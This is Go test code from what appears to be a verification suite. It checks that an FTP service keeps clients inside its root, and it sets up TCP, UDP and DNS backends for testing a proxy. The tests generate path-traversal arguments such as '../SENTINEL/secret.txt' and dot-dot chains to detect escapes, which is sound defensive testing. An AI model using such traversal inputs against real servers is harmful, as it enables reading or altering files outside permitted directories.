					if hits := outsideNamesIn(data, out, surveyInside(root)); len(hits) > 0 {
						leaked = append(leaked, fmt.Sprintf("%s lists names that exist only outside the root %q: %q", line, hits, clip(data)))
					}
				}
				se.Conn.WaitIdle(10 * time.Second)
			}
			for _, l := range fc.newLines() {
				noteData(line+" reply", []byte(l))
			}
		case "RNFR":
			mutated = true
			fc.cmd(line)
			rep, _ := fc.cmd("RNTO " + expand(st.Arg2, root, abs))
			for _, l := range rep {
				noteData("RNTO reply", []byte(l))
			}
		case "PWD":
			rep, _ := fc.cmd("PWD")
			for _, l := range rep {
				if strings.HasPrefix(l, "257 ") {
					wd := strings.TrimPrefix(l, "257 ")
					// the statement speaks of the LOCATION the reported directory denotes: a reply
					// that is not rooted is read relative to the root
					if !inside(root, filepath.Join(root, wd)) {
						return fmt.Errorf("PWD reports %q, outside the root", wd)
					}
					if !mutated {
						if !strings.HasPrefix(wd, "/") || filepath.Clean(wd) != wd {
							return fmt.Errorf("PWD reports %q (not an absolute clean path) after %s", wd, vlib.JSON(c.Steps))
						}
						if st, err := os.Stat(filepath.Join(root, wd)); err != nil || !st.IsDir() {
							return fmt.Errorf("PWD reports %q which is not a directory inside the root", wd)
						}
					}
				}
			}
		default:
			rep, _ := fc.cmd(line)
			if st.Cmd == "RMD" || st.Cmd == "DELE" {
				mutated = true
			}
			for _, l := range rep {
				if (st.Cmd == "SIZE" || st.Cmd == "MDTM") && strings.HasPrefix(l, "213 ") {
					// a 213 reply carries the size / modification time of the file that was found: a
					// value that only files outside the root have was read from outside
					v := strings.TrimSpace(strings.TrimPrefix(l, "213 "))
					ins := surveyInside(root)
					if st.Cmd == "SIZE" && out.sizes[v] && !ins.sizes[v] {
						leaked = append(leaked, fmt.Sprintf("%s answers %q: the size of a file outside the root (no entry inside has it)", line, l))
					}
					if st.Cmd == "MDTM" && out.mtimes[v] && !ins.mtimes[v] {
						leaked = append(leaked, fmt.Sprintf("%s answers %q: the modification time of a file outside the root (no file inside has it)", line, l))
					}
				}
			}
		}
	}
	se.Conn.Send([]byte("QUIT\r\n"))
	se.Conn.CloseWrite()
	se.Conn.WaitClosed(5 * time.Second)
	if len(leaked) > 0 {
		return fmt.Errorf("%s", strings.Join(leaked, "; "))
	}
	after := snap(watched...)
	if d := diff(before, after); d != "" {
		return fmt.Errorf("files outside the FTP root changed: %s", d)
	}
	for a := range hostAbs {
		// attributable to this case only when it holds what this case uploaded
		if st, err := os.Lstat(a); err == nil && st.Mode().IsRegular() && st.Size() <= 1<<16 {
			if data, _ := os.ReadFile(a); bytes.Contains(data, []byte(uploadData)) {
				os.Remove(a)
				return fmt.Errorf("host file %s (absolute client path taken as a host path) was created with uploaded content", a)
			}
		}
	}
	if o := listOutside(in.FsBase, root); o != outsideBefore {
		return fmt.Errorf("directory entries outside the FTP root changed: before %s after %s", outsideBefore, o)
	}
	return nil
}

// listOutside lists everything under base that is not under root.
func listOutside(base, root string) string {
	var out []string
	filepath.Walk(base, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if p == root {
			return filepath.SkipDir
		}
		out = append(out, strings.TrimPrefix(p, base))
		return nil
	})
	sort.Strings(out)
	return strings.Join(out, ",")
}

func clip(b []byte) string {
	if len(b) > 160 {
		return string(b[:160]) + "..."
	}
	return string(b)
}

var ftpPaths = []string{"a", "a/b", "..", "../..", "../../..", "../SENTINEL", "../SENTINEL/secret.txt", "../SENTINEL/a", "../../SENTINEL-UP2/secret.txt", "../../f", "/../SENTINEL", "/..", "/", "//", "a/../../SENTINEL/a/f", "a/b/../../../SENTINEL", "./../", "..//SENTINEL", "/a/../../SENTINEL/secret.txt", "f", "new", "new/sub", "../new-outside", "../../new-up2", "../SENTINEL/new", "..\\SENTINEL", "../{ROOT}x/secret.txt", "../{ROOT}x/a", "/../{ROOT}x", "",
	// names that exist inside the root AND, read as a host path (absolute, or relative to the
	// working directory of the server process), outside it
	"a/f", "./f", "/f", "/a/f", "../SENTINEL/a/f", "{ABS}", "{ABS}/secret.txt", "{ABS}/a/f", "{ABS}/a", "{ABS}/new", "{ABS}/../{ROOT}/f"}

const uploadData = "uploaded-by-c11"

// restArgs: restart offsets around the boundaries of the upload / the stored files (0, 1, the
// sizes, far beyond, the int64 limits) and malformed ones.
var restArgs = []string{"0", "0", "1", "5", "6", "14", "15", "16", "4096", "9223372036854775807", "9223372036854775808", "-1", "x", "0x10", " 0"}

func genFTP(t *rapid.T) ftpCase {
	var c ftpCase
	c.Twins = rapid.IntRange(0, 3).Draw(t, "twins") > 0
	n := rapid.IntRange(1, 5).Draw(t, "nsteps")
	var used []string
	for i := 0; i < n; i++ {
		// uploads come in three modes in this service: plain STOR, and STOR after the append mode
		// was armed by APPE or by REST n; they carry more weight because only they have modes
		st := ftpStep{Cmd: rapid.SampledFrom([]string{"CWD", "CWD", "CDUP", "PWD", "MKD", "RMD", "DELE", "RNFR", "STOR", "STOR", "STOR", "APPE", "APPE", "REST", "REST", "RETR", "LIST", "NLST", "MDTM", "SIZE"}).Draw(t, "cmd")}
		switch st.Cmd {
		case "CDUP", "PWD":
		case "REST":
			st.Arg = rapid.SampledFrom(restArgs).Draw(t, "offset")
		default:
			// histories that come back to a path they already used (store then append, create then
			// delete, rename then read ...) are as likely as fresh paths
			if len(used) > 0 && rapid.Bool().Draw(t, "reuse") {
				st.Arg = rapid.SampledFrom(used).Draw(t, "argAgain")
			} else if rapid.IntRange(0, 3).Draw(t, "composed") == 0 {
				st.Arg = genDotDotPath(t)
			} else {
				st.Arg = rapid.SampledFrom(ftpPaths).Draw(t, "arg")
			}
			used = append(used, st.Arg)
		}
		if st.Cmd == "RNFR" {
			st.Arg2 = rapid.SampledFrom(ftpPaths).Draw(t, "arg2")
			used = append(used, st.Arg2)
		}
		if st.Cmd == "STOR" || st.Cmd == "APPE" {
			st.Data = uploadData
		}
		c.Steps = append(c.Steps, st)
	}
	return c
}

// genDotDotPath composes a path from components: 0..4 components over {a, b, .., ., ''} followed
// (mostly) by a final "..", relative or absolute, with or without a trailing separator - the
// paths whose LAST element climbs, at every depth.
func genDotDotPath(t *rapid.T) string {
	n := rapid.IntRange(0, 4).Draw(t, "nlead")
	var parts []string
	for i := 0; i < n; i++ {
		parts = append(parts, rapid.SampledFrom([]string{"a", "b", "..", "..", "..", ".", ""}).Draw(t, "lead"))
	}
	parts = append(parts, rapid.SampledFrom([]string{"..", "..", "..", "..", ".", "a", "SENTINEL"}).Draw(t, "last"))
	p := strings.Join(parts, "/")
	if rapid.IntRange(0, 2).Draw(t, "abs") == 0 {
		p = "/" + p
	}
	if rapid.IntRange(0, 3).Draw(t, "trail") == 0 {
		p += "/"
	}
	return p
}

// what an escaping relative path continues with once it has climbed: nothing, or names that
// exist beside / above the root (some of them also inside it). The marker names are never part
// of a generated path: no command may be able to create them inside the root.
var climbTails = []string{"", "", "", "SENTINEL", "SENTINEL/secret.txt", "SENTINEL/a", "SENTINEL/a/f", "{ROOT}x", "{ROOT}x/secret.txt", "PROC-CWD", "PROC-CWD/f", "f", "ftp/SENTINEL/secret.txt", "SENTINEL-UP2", "SENTINEL-UP2/secret.txt", "screen.png", "new-outside"}

// genClimb: k dot-dots (k around the depth the working directory has or should have: one less,
// exactly, one more, two more - or anything up to 6) followed by a tail.
func genClimb(t *rapid.T, depths []int) string {
	var ks []int
	for _, d := range depths {
		ks = append(ks, d, d+1, d+1, d+2)
		if d > 0 {
			ks = append(ks, d-1)
		}
	}
	ks = append(ks, rapid.IntRange(0, 6).Draw(t, "anyK"))
	k := rapid.SampledFrom(ks).Draw(t, "k")
	tail := rapid.SampledFrom(climbTails).Draw(t, "tail")
	p := strings.Repeat("../", k) + tail
	if tail == "" && rapid.IntRange(0, 3).Draw(t, "trail") != 0 {
		p = strings.TrimSuffix(p, "/")
	}
	if p == "" {
		p = "."
	}
	return p
}

// relFrom names the virtual path target (components) relative to the directory dir (components):
// up to the root, then down; with a common prefix optionally kept.
func relFrom(dir, target []string, short bool) string {
	common := 0
	if short {
		for common < len(dir) && common < len(target) && dir[common] == target[common] {
			common++
		}
	}
	p := strings.Repeat("../", len(dir)-common) + strings.Join(target[common:], "/")
	p = strings.TrimSuffix(p, "/")
	if p == "" {
		p = "."
	}
	return p
}

// genHistory: structured histories the flat generator hardly ever composes. The client goes into
// a directory D of the tree (in one step or component-wise, by absolute or relative names; D may
// be a directory it made itself), then (3 of 4) renames D or one of D's ancestors - named
// absolutely or relative to D, to a new name in the same place, directly under the root or under
// another directory, so the depth of the directory it is in may change - and then, WITHOUT a
// further CWD/CDUP, issues 1..3 commands with relative paths that climb by about as many dot-dots
// as the working directory is (or was) deep.
func genHistory(t *rapid.T) ftpCase {
	var c ftpCase
	c.Twins = rapid.IntRange(0, 3).Draw(t, "twins") > 0
	add := func(cmd, arg, arg2 string) {
		st := ftpStep{Cmd: cmd, Arg: arg, Arg2: arg2}
		if cmd == "STOR" || cmd == "APPE" {
			st.Data = uploadData
		}
		c.Steps = append(c.Steps, st)
	}
	D := rapid.SampledFrom([][]string{{"a"}, {"a", "b"}, {"a", "b", "a"}, {"b"}, {"new"}, {"a", "new"}}).Draw(t, "dir")
	if D[len(D)-1] == "new" {
		add("MKD", "/"+strings.Join(D, "/"), "")
	}
	switch rapid.IntRange(0, 2).Draw(t, "cwdMode") {
	case 0:
		add("CWD", "/"+strings.Join(D, "/"), "")
	case 1:
		add("CWD", strings.Join(D, "/"), "")
	default:
		for _, comp := range D {
			add("CWD", comp, "")
		}
	}
	depths := []int{len(D)}
	if rapid.IntRange(0, 3).Draw(t, "rename") > 0 {
		L := rapid.IntRange(1, len(D)).Draw(t, "level") // rename the ancestor-or-self D[:L]
		src := D[:L]
		var from string
		switch rapid.IntRange(0, 2).Draw(t, "fromMode") {
		case 0:
			from = "/" + strings.Join(src, "/")
		case 1:
			from = relFrom(D, src, true) // ".", "..", "../.."
		default:
			from = relFrom(D, src, false) // all the way up, then down
		}
		var dst []string
		switch rapid.IntRange(0, 3).Draw(t, "toPlace") {
		case 0, 1: // new name in the same place
			dst = append(append([]string{}, src[:L-1]...), "e")
		case 2: // directly under the root
			dst = []string{"e"}
		default: // under another directory of the tree
			dst = append(rapid.SampledFrom([][]string{{"b"}, {"a"}, {"a", "b"}}).Draw(t, "toDir"), "e")
		}
		var to string
		switch rapid.IntRange(0, 2).Draw(t, "toMode") {
		case 0:
			to = "/" + strings.Join(dst, "/")
		case 1:
			to = relFrom(D, dst, true)
		default:
			to = relFrom(D, dst, false)
		}
		add("RNFR", from, to)
		depths = append(depths, len(dst)+len(D)-L)
	}
	for k := rapid.IntRange(1, 3).Draw(t, "nprobes"); k > 0; k-- {
		cmd := rapid.SampledFrom([]string{"SIZE", "MDTM", "RETR", "LIST", "LIST", "NLST", "NLST", "DELE", "RMD", "MKD", "STOR", "APPE", "RNFR", "PWD"}).Draw(t, "probe")
		switch cmd {
		case "PWD":
			add(cmd, "", "")
		case "RNFR":
			add(cmd, genClimb(t, depths), genClimb(t, depths))
		default:
			add(cmd, genClimb(t, depths), "")
		}
	}
	return c
}

func nontrivialFTP(c ftpCase) bool {
	for _, s := range c.Steps {
		if s.Cmd == "REST" {
			continue
		}
		if (strings.Contains(s.Arg, "..") || strings.HasPrefix(s.Arg, "/") || strings.HasPrefix(s.Arg, "{ABS}") || strings.Contains(s.Arg2, "..")) && s.Cmd != "PWD" && s.Cmd != "CDUP" {
			return true
		}
		if s.Cmd == "CDUP" {
			return true
		}
	}
	return false
}

func TestFTPContainment(t *testing.T) {
	r := vlib.Open(prop)
	var fc ftpCase
	if vlib.ReplayCase("TestFTPContainment", &fc) {
		if err := checkFTP(fc); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestFTPContainment", fc, err.Error())
		}
		return
	}
	r.Rule("end to end: command sequences of 1..5 over CWD/CDUP/PWD/MKD/RMD/DELE/RNFR+RNTO/STOR/APPE/REST n/RETR/LIST/NLST/MDTM/SIZE with escaping path arguments (half of them re-using a path of an earlier step, a quarter of the fresh ones composed from 0..4 components over {a, b, .., ., ''} plus a final component that is mostly '..', relative/absolute, with/without trailing separator; uploads in all three modes: plain, append armed by APPE, append armed by REST with boundary offsets) against the real FTP service on a fresh instance (in-memory control connection, real passive data sockets on loopback); root populated with a small tree and (3 of 4 cases) inside twins of the outside names, sentinel trees beside it (../SENTINEL, a sibling whose name extends the root's name, ../../SENTINEL-UP2, a file in the base dir) plus the locations a raw client path denotes on the host: the working directory of the server process (a sentinel directory beside the root holding the root's names) and the absolute path of a sentinel mirrored inside the root; oracle = sentinel snapshot (names, sizes, hashes) and the set of directory entries outside the root identical before/after, no data or reply contains sentinel content, no LIST/NLST payload contains a name that exists outside the root (the sentinels, the root's own name, PROC-CWD, marker file/directory in the root's parent and grandparent ...) and nowhere inside it at that moment, no SIZE/MDTM reply carries a size / modification time that only the outside files have (they are given distinctive ones), every PWD reply denotes a location inside the root (and, as long as nothing was renamed or removed, is absolute, clean and an existing directory); non-trivial = a path with '..' or absolute in a command that touches the filesystem")
	r.Rapid(t, "TestFTPContainment", r.Pick(100, 2500), func(rt *rapid.T) {
		c := genFTP(rt)
		fp := ""
		if nontrivialFTP(c) {
			fp = vlib.JSON(c)
		}
		r.Case("ftp/containment", fp, func() interface{} { return c })
		if err := checkFTP(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestFTPContainment", c, "%v", err)
		}
	})
}

func TestFTPHistories(t *testing.T) {
	r := vlib.Open(prop)
	var fc ftpCase
	if vlib.ReplayCase("TestFTPHistories", &fc) {
		if err := checkFTP(fc); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestFTPHistories", fc, err.Error())
		}
		return
	}
	r.Rule("end to end, structured histories: go into a directory of the tree (1..3 deep, existing or just made; one CWD or component-wise; absolute or relative), then (3 of 4) rename that directory or one of its ancestors with RNFR/RNTO (source and target named absolutely or relative to the working directory; target in the same place, directly under the root or under another directory, so the depth may change), then - with no further CWD/CDUP - 1..3 of SIZE/MDTM/RETR/LIST/NLST/DELE/RMD/MKD/STOR/APPE/RNFR+RNTO/PWD with relative paths of k dot-dots, k sampled around the old and new depth of the working directory (d-1, d, d+1, d+2, any 0..6), followed by nothing or by a name that exists beside/above the root; same instance layout and oracle as TestFTPContainment; non-trivial = always (every probe path climbs)")
	r.Rapid(t, "TestFTPHistories", r.Pick(45, 1200), func(rt *rapid.T) {
		c := genHistory(rt)
		fp := ""
		if nontrivialFTP(c) {
			fp = vlib.JSON(c)
		}
		r.Case("ftp/history", fp, func() interface{} { return c })
		if err := checkFTP(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestFTPHistories", c, "%v", err)
		}
	})
}
