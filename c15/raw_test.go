package c15

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/fnv"
	"io"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

// ---- raw tcp backend (copy service) ----

type tcpScript struct {
	expect int // total bytes the client sends, including the tag byte
	reply  []byte
	cuts   []int
	// schedule: reply piece gate-1 (gate > 0) is written only after the whole client
	// stream has arrived and - when clientClosed is set - the client has ended its
	// sending side (half-close), plus linger so that the proxy has seen that too
	gate         int
	linger       time.Duration
	clientClosed *latch
	// the backend ends its own sending side after the reply and keeps reading
	halfClose     bool
	backendClosed *latch
}

// latch is a one-shot in-process signal between the harness's client and backend (the
// proxy under test relays no end-of-stream, so the two ends of a case coordinate here).
type latch struct {
	once sync.Once
	ch   chan struct{}
}

func newLatch() *latch { return &latch{ch: make(chan struct{})} }

func (l *latch) fire() {
	if l != nil {
		l.once.Do(func() { close(l.ch) })
	}
}

// wait returns when the latch fired; the bound only keeps a broken case from hanging,
// its expiry decides nothing.
func (l *latch) wait() {
	if l == nil {
		return
	}
	select {
	case <-l.ch:
	case <-time.After(20 * time.Second):
	}
}

type tcpSeen struct {
	mu    sync.Mutex
	data  []byte
	extra int
	done  bool
}

type tcpBackend struct {
	l    *net.TCPListener
	port int

	mu      sync.Mutex
	scripts map[byte]*tcpScript
	seen    map[byte][]*tcpSeen
	stray   []string
	remotes []string
	gen     int
	open    map[net.Conn]bool
}

func newTCPBackend(addr string) (*tcpBackend, error) {
	l, p, err := listenTCP(addr)
	if err != nil {
		return nil, err
	}
	b := &tcpBackend{l: l, port: p}
	b.reset()
	go func() {
		for {
			c, err := l.AcceptTCP()
			if err != nil {
				return
			}
			c.SetNoDelay(true)
			b.mu.Lock()
			gen := b.gen
			b.remotes = append(b.remotes, c.RemoteAddr().String())
			b.open[c] = true
			b.mu.Unlock()
			go b.handle(c, gen)
		}
	}()
	return b, nil
}

func (b *tcpBackend) reset() {
	b.mu.Lock()
	old := b.open
	b.gen++
	b.scripts = map[byte]*tcpScript{}
	b.seen = map[byte][]*tcpSeen{}
	b.stray = nil
	b.remotes = nil
	b.open = map[net.Conn]bool{}
	b.mu.Unlock()
	for c := range old {
		c.Close()
	}
}

func (b *tcpBackend) handle(c *net.TCPConn, gen int) {
	defer func() {
		c.Close()
		b.mu.Lock()
		delete(b.open, c)
		b.mu.Unlock()
	}()
	var first [1]byte
	if _, err := io.ReadFull(c, first[:]); err != nil {
		return
	}
	b.mu.Lock()
	if gen != b.gen {
		b.mu.Unlock()
		return
	}
	sc := b.scripts[first[0]]
	var seen *tcpSeen
	if sc == nil {
		b.stray = append(b.stray, fmt.Sprintf("a stream starting with byte 0x%02x that no client sent", first[0]))
	} else {
		seen = &tcpSeen{data: []byte{first[0]}}
		b.seen[first[0]] = append(b.seen[first[0]], seen)
	}
	b.mu.Unlock()
	if sc == nil {
		return
	}
	var wg sync.WaitGroup
	wg.Add(1)
	complete := newLatch()
	go func() {
		defer wg.Done()
		defer sc.backendClosed.fire()
		for i, part := range split(sc.reply, sc.cuts) {
			if sc.gate > 0 && i == sc.gate-1 {
				complete.wait()
				sc.clientClosed.wait()
				time.Sleep(sc.linger)
			} else if i > 0 && i <= 2 {
				time.Sleep(300 * time.Microsecond)
			}
			if _, err := c.Write(part); err != nil {
				return
			}
		}
		if sc.halfClose {
			c.CloseWrite()
		}
	}()
	buf := make([]byte, sc.expect-1)
	n, _ := io.ReadFull(c, buf)
	complete.fire()
	seen.mu.Lock()
	seen.data = append(seen.data, buf[:n]...)
	seen.mu.Unlock()
	wg.Wait()
	if n == len(buf) {
		// anything beyond what the client sent?
		c.SetReadDeadline(time.Now().Add(5 * time.Millisecond))
		x, _ := io.Copy(io.Discard, c)
		seen.mu.Lock()
		seen.extra = int(x)
		seen.mu.Unlock()
	}
	seen.mu.Lock()
	seen.done = true
	seen.mu.Unlock()
}

// ---- udp backend (copy over udp, dns-proxy) ----

type udpBackend struct {
	u    *net.UDPConn
	port int

	mu      sync.Mutex
	scripts map[string][][]byte
	seen    map[string]int
	stray   []string
	remotes map[string]bool
	// late: digests of the datagrams of earlier cases; one of those arriving now (its
	// client stopped waiting for it) is not something "no client sent"
	late, older map[uint64]bool
}

func digest(b []byte) uint64 {
	h := fnv.New64a()
	h.Write(b)
	return h.Sum64()
}

func newUDPBackend(addr string) (*udpBackend, error) {
	ua, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return nil, err
	}
	u, err := net.ListenUDP("udp", ua)
	if err != nil {
		return nil, err
	}
	u.SetReadBuffer(4 << 20) // bursts of large datagrams from several handlers at once
	b := &udpBackend{u: u, port: u.LocalAddr().(*net.UDPAddr).Port}
	b.reset()
	go func() {
		buf := make([]byte, 65536)
		for {
			n, ra, err := u.ReadFromUDP(buf)
			if err != nil {
				return
			}
			d := string(buf[:n])
			b.mu.Lock()
			replies, ok := b.scripts[d]
			if ok {
				b.seen[d]++
			} else if dg := digest(buf[:n]); !b.late[dg] && !b.older[dg] {
				b.stray = append(b.stray, fmt.Sprintf("a datagram no client sent: %s", short(buf[:n])))
			}
			b.remotes[ra.String()] = true
			b.mu.Unlock()
			for _, r := range replies {
				u.WriteToUDP(r, ra)
			}
		}
	}()
	return b, nil
}

func (b *udpBackend) reset() {
	b.mu.Lock()
	if b.late == nil || len(b.late) > 100000 {
		b.older, b.late = b.late, map[uint64]bool{}
	}
	for d := range b.scripts {
		b.late[digest([]byte(d))] = true
	}
	b.scripts = map[string][][]byte{}
	b.seen = map[string]int{}
	b.stray = nil
	b.remotes = map[string]bool{}
	b.mu.Unlock()
}

func (b *udpBackend) count(d []byte) int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.seen[string(d)]
}

// ---- dns over tcp backend: two-byte length framing ----

type dnsTCPBackend struct {
	l    *net.TCPListener
	port int

	mu      sync.Mutex
	scripts map[string]dnsTCPScript
	seen    map[string]int
	stray   []string
	remotes []string
	gen     int
	open    map[net.Conn]bool
}

type dnsTCPScript struct {
	reply []byte
	cuts  []int // write boundaries inside the framed reply (length prefix included)
}

func newDNSTCPBackend(addr string) (*dnsTCPBackend, error) {
	l, p, err := listenTCP(addr)
	if err != nil {
		return nil, err
	}
	b := &dnsTCPBackend{l: l, port: p}
	b.reset()
	go func() {
		for {
			c, err := l.AcceptTCP()
			if err != nil {
				return
			}
			c.SetNoDelay(true)
			b.mu.Lock()
			gen := b.gen
			b.remotes = append(b.remotes, c.RemoteAddr().String())
			b.open[c] = true
			b.mu.Unlock()
			go b.handle(c, gen)
		}
	}()
	return b, nil
}

func (b *dnsTCPBackend) close() { b.l.Close() }

func (b *dnsTCPBackend) reset() {
	b.mu.Lock()
	old := b.open
	b.gen++
	b.scripts = map[string]dnsTCPScript{}
	b.seen = map[string]int{}
	b.stray = nil
	b.remotes = nil
	b.open = map[net.Conn]bool{}
	b.mu.Unlock()
	for c := range old {
		c.Close()
	}
}

func (b *dnsTCPBackend) handle(c *net.TCPConn, gen int) {
	defer func() {
		c.Close()
		b.mu.Lock()
		delete(b.open, c)
		b.mu.Unlock()
	}()
	for {
		var lb [2]byte
		if _, err := io.ReadFull(c, lb[:]); err != nil {
			return
		}
		msg := make([]byte, binary.BigEndian.Uint16(lb[:]))
		if n, err := io.ReadFull(c, msg); err != nil {
			b.mu.Lock()
			if gen == b.gen {
				b.stray = append(b.stray, fmt.Sprintf("a truncated message: length prefix %d, %d bytes followed", len(msg), n))
			}
			b.mu.Unlock()
			return
		}
		b.mu.Lock()
		if gen != b.gen {
			b.mu.Unlock()
			return
		}
		sc, ok := b.scripts[string(msg)]
		reply := sc.reply
		if ok {
			b.seen[string(msg)]++
		} else {
			b.stray = append(b.stray, fmt.Sprintf("a message no client sent: %s", short(msg)))
		}
		b.mu.Unlock()
		if !ok {
			return
		}
		out := make([]byte, 2+len(reply))
		binary.BigEndian.PutUint16(out, uint16(len(reply)))
		copy(out[2:], reply)
		for i, part := range split(out, sc.cuts) {
			if i > 0 && i <= 2 {
				time.Sleep(300 * time.Microsecond)
			}
			if _, err := c.Write(part); err != nil {
				return
			}
		}
	}
}

// ---- cases ----

type rawMsg struct {
	// copy-tcp: the stream after the tag byte; udp / dns: one datagram or message
	Data    bodySpec   `json:"data"`
	DNS     *dnsQuery  `json:"dns,omitempty"` // dns kinds: a well-formed query instead of Data
	Cuts    []int      `json:"cuts,omitempty"`
	Replies []bodySpec `json:"replies"` // copy-tcp / dns: exactly one; copy-udp: 0..2 datagrams
	RCuts   []int      `json:"rcuts,omitempty"`
}

type dnsQuery struct {
	Opcode int      `json:"opcode"`
	RD     bool     `json:"rd"`
	Names  []string `json:"names"`
	Types  []int    `json:"types"`
	EDNS   bool     `json:"edns"`
	// Size > 0: the message is brought to exactly Size bytes on the wire by an EDNS0
	// padding option (RFC 7830) in the OPT record, filled from PadSeed (ignored when
	// the message is larger than that without padding)
	Size    int `json:"size,omitempty"`
	PadSeed int `json:"pad_seed,omitempty"`
}

type rawClient struct {
	Msgs []rawMsg `json:"msgs"` // copy-tcp: exactly one
	// copy-tcp: 0 = copy service whose director host carries a port, 1 = copy service on
	// the director without a port that the two http-proxy ports share
	Svc int `json:"svc,omitempty"`
	// schedule of the two ends of a tcp relay (copy-tcp, dns-tcp):
	// HalfClose: the client ends its sending side (TCP half-close) right after its last
	// byte and then reads the reply to the end.
	HalfClose bool `json:"half_close,omitempty"`
	// copy-tcp, Gate > 0: the backend holds reply piece Gate-1 (and what follows) back
	// until it has the whole client stream and, with HalfClose, until the client has ended
	// its sending side, plus LingerMs. Gate 0: the backend replies from the first byte on.
	Gate     int `json:"gate,omitempty"`
	LingerMs int `json:"linger_ms,omitempty"`
	// copy-tcp, the mirror image: the backend ends ITS sending side after the reply and
	// keeps reading; the client holds stream piece CGate-1 (CGate > 1: the first piece
	// carries the tag byte) and what follows back until then (ignored together with Gate:
	// the two ends would wait for each other).
	BackendHalfClose bool `json:"backend_half_close,omitempty"`
	CGate            int  `json:"cgate,omitempty"`
	// dns-tcp, Pipelined (RFC 7766 6.2.1.1): the client does not wait for a reply before
	// its next query: the framed queries of the connection form one stream that is
	// written in the pieces PCuts gives (offsets into the whole stream, message
	// boundaries mean nothing to them; none = a single write; the per-message Cuts are
	// not used), the replies are read as they come. Lock-step otherwise.
	Pipelined bool  `json:"pipelined,omitempty"`
	PCuts     []int `json:"pcuts,omitempty"`
}

type rawCase struct {
	Kind    string      `json:"kind"` // copy-tcp | copy-udp | dns-udp | dns-tcp
	Clients []rawClient `json:"clients"`
}

func (q *dnsQuery) wire(id uint16) []byte {
	var b bytes.Buffer
	var h [12]byte
	binary.BigEndian.PutUint16(h[0:], id)
	flags := uint16(q.Opcode&0xf) << 11
	if q.RD {
		flags |= 0x0100
	}
	binary.BigEndian.PutUint16(h[2:], flags)
	binary.BigEndian.PutUint16(h[4:], uint16(len(q.Names)))
	if q.EDNS {
		binary.BigEndian.PutUint16(h[10:], 1)
	}
	b.Write(h[:])
	for i, n := range q.Names {
		for _, l := range strings.Split(n, ".") {
			if l == "" {
				continue
			}
			b.WriteByte(byte(len(l)))
			b.WriteString(l)
		}
		b.WriteByte(0)
		var tc [4]byte
		binary.BigEndian.PutUint16(tc[0:], uint16(q.Types[i%len(q.Types)]))
		binary.BigEndian.PutUint16(tc[2:], 1)
		b.Write(tc[:])
	}
	if q.EDNS {
		// root name, type OPT, udp size 4096, ttl 0; then rdlength
		b.Write([]byte{0, 0, 41, 0x10, 0x00, 0, 0, 0, 0})
		if pad := q.Size - (b.Len() + 2) - 4; q.Size > 0 && q.Size <= 65535 && pad >= 0 {
			var o [6]byte
			binary.BigEndian.PutUint16(o[0:], uint16(4+pad))
			binary.BigEndian.PutUint16(o[2:], 12) // option code: padding
			binary.BigEndian.PutUint16(o[4:], uint16(pad))
			b.Write(o[:])
			b.Write(bodySpec{Len: pad, Seed: q.PadSeed}.bytes())
		} else {
			b.Write([]byte{0, 0})
		}
	}
	return b.Bytes()
}

// payload returns the bytes of message j of client ci. Datagram kinds look replies up
// by content, so the content is made unique within the case: dns messages carry
// (ci, j) in their id, other datagrams get (ci, j) appended when they collide.
func (c rawCase) payloads() [][][]byte {
	used := map[string]bool{}
	out := make([][][]byte, len(c.Clients))
	for ci, cl := range c.Clients {
		for j, m := range cl.Msgs {
			var p []byte
			if m.DNS != nil {
				p = m.DNS.wire(uint16(0x1000*(ci+1) + 0x10*j + m.Data.Seed%16))
			} else {
				p = m.Data.bytes()
			}
			if c.Kind != "copy-tcp" {
				for used[string(p)] {
					p = append(append([]byte(nil), p...), byte(ci), byte(j))
				}
				used[string(p)] = true
			}
			out[ci] = append(out[ci], p)
		}
	}
	return out
}

// reply k to message j of client ci; dns replies echo the query id the way a resolver would.
func (c rawCase) reply(ci, j, k int, query []byte) []byte {
	r := c.Clients[ci].Msgs[j].Replies[k].bytes()
	if strings.HasPrefix(c.Kind, "dns") && len(query) >= 2 {
		r = append([]byte{query[0], query[1], 0x81, 0x80}, r...)
	}
	return r
}

type rawResult struct {
	local net.Addr
	got   [][][]byte // per message: the replies read
	err   error
	sent  int
}

func checkRaw(t testing.TB, c rawCase) error {
	err := guard(func() error { return checkRawOnce(t, c) })
	// "did not arrive": measured again before it is reported; datagrams may be dropped
	// by the kernel (receive buffer of the server's socket) without anybody's fault,
	// so the udp kinds get one measurement more
	again := 1
	if strings.HasSuffix(c.Kind, "-udp") {
		again = 2
	}
	for i := 0; i < again; i++ {
		if _, ok := err.(*timeoutErr); !ok {
			break
		}
		err2 := guard(func() error { return checkRawOnce(t, c) })
		if err2 == nil {
			vlib.Open(prop).Flaky(c.Kind + ": " + err.Error())
			return nil
		}
		err = err2
	}
	return err
}

func checkRawOnce(t testing.TB, c rawCase) error {
	e := getEnv(t)
	epoch := nextEpoch()
	d0 := e.decoy.count()
	copyBackends := []*tcpBackend{e.copyB, e.copyB2}
	copyPorts := []int{e.copyPort, e.copy2Port}
	e.copyB.reset()
	e.copyB2.reset()
	e.http2B.reset() // they share the port-less director with the second copy service
	e.http3B.reset()
	e.copyUB.reset()
	e.dnsUB.reset()
	e.dnsTB.reset()
	defer func() {
		e.copyB.reset()
		e.copyB2.reset()
		e.copyUB.reset()
		e.dnsUB.reset()
		e.dnsTB.reset()
	}()
	mark := e.cap.Len()
	payloads := c.payloads()
	results := make([]*rawResult, len(c.Clients))
	scheds := make([]*copySched, len(c.Clients))
	var wg sync.WaitGroup
	tagOf := func(ci int) byte { return byte((epoch%64)*4 + ci) }
	var ub *udpBackend
	var proxyPort int
	switch c.Kind {
	case "copy-tcp":
		for ci, cl := range c.Clients {
			m := cl.Msgs[0]
			be := copyBackends[cl.Svc%2]
